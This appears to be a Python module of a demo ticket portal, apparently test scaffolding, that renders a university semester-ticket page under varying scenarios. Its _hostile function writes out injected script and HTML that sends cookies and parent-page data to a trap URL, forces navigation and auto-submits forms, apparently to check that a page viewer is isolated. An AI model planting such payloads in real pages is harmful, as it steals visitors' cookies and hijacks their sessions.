"""The HTML of the portal's own pages: the ticket and the privacy question before it."""

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from html import escape

from app.demo.portal.state import BERLIN, Visit
from app.demo.portal.ticket import Ticket, code_png
from app.demo.portal.words import WORDS

MARKER = "NVV-Semesterticket"
MONTHS = {
    "en": "January February March April May June July August September October November December",
    "de": "Januar Februar März April Mai Juni Juli August September Oktober November Dezember",
}

CSS = """body{font-family:sans-serif;margin:1rem;background:#fff url(/static/wave.svg) no-repeat}
.code{image-rendering:pixelated;display:block;width:18rem;height:auto}
.label{color:#555}
"""
LOGO = """<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">
<rect width="120" height="40" rx="6" fill="#005a9c"/>
<text x="14" y="27" fill="#fff" font-size="20">NVV demo</text></svg>
"""
WAVE = """<svg xmlns="http://www.w3.org/2000/svg" width="400" height="60" viewBox="0 0 400 60">
<path d="M0 30 Q100 0 200 30 T400 30" fill="none" stroke="#cde"/></svg>
"""

EXPORT_SCRIPT = """function exportOffline() {
  const style = 'body{font-family:sans-serif}.code{image-rendering:pixelated;width:18rem}';
  const page = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Semesterticket</title>'
    + '<style>' + style + '</style></head><body>' + document.getElementById('ticket').outerHTML
    + '</body></html>';
  const link = document.createElement('a');
  link.href = 'data:text/html;charset=utf-8,' + encodeURIComponent(page);
  link.download = 'semesterticket.html';
  link.click();
}
"""


@dataclass(frozen=True)
class View:
    """What differs from one look at the same ticket to the next."""

    lang: str
    now: datetime
    csrf: str
    trap_url: str
    visitors: int


def ticket_page(visit: Visit, ticket: Ticket, view: View) -> str:
    """The whole ticket page as this visit's scenario wants it."""
    say = WORDS[view.lang]
    marker = "Semesterticket" if visit.has("marker_only_in_script") else MARKER
    validity, code, script = _dates(visit, ticket, view.lang), _code(visit, ticket), EXPORT_SCRIPT
    if visit.has("js_ticket"):
        script += _late(validity + code)
        validity = code = ""
    if visit.has("marker_only_in_script"):
        script += f"const product = {json.dumps(MARKER)};\n"
    extra = f"<p>{say['changed']}</p>" if visit.has("changed") else ""
    if visit.has("changed") and visit.param("text"):
        extra = f"<p>{escape(str(visit.param('text')))}</p>"
    if visit.param("counter"):
        extra += f'<p class="counter">{say["visitors"]}: {view.visitors}</p>'
    if visit.has("hostile_html"):
        extra += _hostile(view.trap_url)
    stamp = view.now.astimezone(BERLIN).strftime("%H:%M:%S")
    # the parts of one line stand in one block, as label and value do on the real page
    return f"""<!DOCTYPE html>
<html lang="{view.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="csrf-token" content="{view.csrf}">
<title>Semesterticket</title>
<link rel="stylesheet" href="/static/portal.css?v=7">
<script>
{script}</script>
</head>
<body>
<header><img src="/static/logo.svg" alt="NVV" width="120" height="40"></header>
<main id="ticket">
<h1>{marker}</h1>
<h2>{say["ticket_title"]}</h2>
<p class="holder"><span class="label">{say["holder"]}:</span> {escape(ticket.name)}</p>
<p class="birth"><span class="label">{say["birth"]}:</span> {_dotted(ticket.person.born)}</p>
<div id="late">{validity}{code}</div>
<p class="number"><span class="label">{say["number"]}:</span> {ticket.number}</p>
<p class="region"><span class="label">{say["region"]}:</span> {say["region_text"]}</p>
{extra}<p>{say["how"]}</p>
</main>
<p class="stand">{say["loaded"]} {stamp}</p>
<form method="post" action="/logout"><input type="hidden" name="_csrf" value="{view.csrf}">
<button type="button" onclick="exportOffline()">{say["offline"]}</button></form>
<footer>AStA Universität Kassel · <a href="/imprint">{say["imprint"]}</a></footer>
</body>
</html>
"""


def consent_page(visit: Visit, lang: str, csrf: str) -> str:
    """The portal's own privacy question, not the sign-in service's."""
    say = WORDS[lang]
    marker = f" {MARKER}" if visit.has("consent_text_has_marker_word") else ""
    return _small(
        lang,
        say["portal_consent_title"],
        f"""<p>{say["service"]}{marker}</p><p>{say["portal_consent_text"]}</p>
<form method="post" action="/consent"><input type="hidden" name="_csrf" value="{csrf}">
<input type="submit" value="{say["accept"]}"></form>""",
    )


def thanks_page(lang: str) -> str:
    """What comes back after the privacy question: not the ticket."""
    return _small(
        lang, WORDS[lang]["portal_consent_title"], f"<p>{WORDS[lang]['portal_thanks']}</p>"
    )


def unknown_page(lang: str) -> str:
    """A page of no known kind."""
    say = WORDS[lang]
    body = f"<p>{say['unknown_text']}</p><div class='tiles'><section></section></div>"
    return _small(lang, say["unknown_title"], body)


def _small(lang: str, title: str, body: str) -> str:
    return f"""<!DOCTYPE html>
<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/static/portal.css?v=7"></head>
<body><h1>{title}</h1>
{body}
</body></html>
"""


def _dates(visit: Visit, ticket: Ticket, lang: str) -> str:
    """The line of validity; `params["dates"]` is `dotted`, `iso`, `long` or `month`."""
    if visit.has("no_dates"):
        return ""
    say = WORDS[lang]
    style = visit.param("dates", "dotted" if lang == "de" else "iso")
    if style == "month":
        name = MONTHS[lang].split()[ticket.first.month - 1]
        return f'<p class="validity">{say["valid"]} {name} {ticket.first.year}</p>'
    writers: dict[str, Callable[[date], str]] = {
        "dotted": _dotted,
        "iso": lambda day: day.isoformat(),
        "long": lambda day: _long(day, lang),
    }
    write = writers[style]
    return (
        f'<p class="validity"><span class="label">{say["valid"]}</span> {write(ticket.first)}'
        f" {say['until']} {write(ticket.last)}</p>"
    )


def _dotted(day: date) -> str:
    return f"{day:%d.%m.%Y}"


def _long(day: date, lang: str) -> str:
    name = MONTHS[lang].split()[day.month - 1]
    return f"{day.day}. {name} {day.year}" if lang == "de" else f"{day.day} {name} {day.year}"


def _code(visit: Visit, ticket: Ticket) -> str:
    """The code picture: inside the page, or fetched with `params["code"] = "url"`."""
    picture = code_png(ticket.code)
    source = "data:image/png;base64," + base64.b64encode(picture).decode()
    if visit.param("code") == "url":
        source = "/ticket/code.png"
    return f'<img id="code" class="code" width="288" height="288" alt="Aztec" src="{source}">'


def _late(markup: str) -> str:
    """A script that puts in what the page lacks, spelled so that no text search finds it."""
    packed = base64.b64encode(markup.encode()).decode()
    return f"""addEventListener('DOMContentLoaded', () => {{
  const bytes = Uint8Array.from(atob('{packed}'), (c) => c.charCodeAt(0));
  document.getElementById('late').innerHTML = new TextDecoder().decode(bytes);
}});
"""


def _hostile(trap: str) -> str:
    """Everything a page can try on the one who shows it; each success is seen at the trap."""
    return f"""<script>fetch('{trap}/fetch'); new Image().src = '{trap}/script';
document.cookie = 'taken=1'; fetch('{trap}/cookie?' + encodeURIComponent(document.cookie));
try {{ fetch('{trap}/parent?' + parent.document.title); }} catch {{}}
setTimeout(() => {{ top.location = '{trap}/navigate'; }}, 50);</script>
<img src="{trap}/pixel.png" onerror="location.href='{trap}/onerror'" alt="">
<link rel="stylesheet" href="{trap}/style.css">
<iframe src="{trap}/frame"></iframe><object data="{trap}/object"></object>
<embed src="{trap}/embed">
<meta http-equiv="refresh" content="0;url={trap}/refresh">
<a href="{trap}/top" target="_top" onclick="alert(1)">top</a>
<form action="{trap}/form" method="post">
<input name="x" autofocus onfocus="this.form.submit()"></form>
<svg onload="fetch('{trap}/svg')"></svg><a href="javascript:fetch('{trap}/js')">js</a>
<base href="{trap}/">
<div style="background:url({trap}/background.png)">hostile</div>
"""
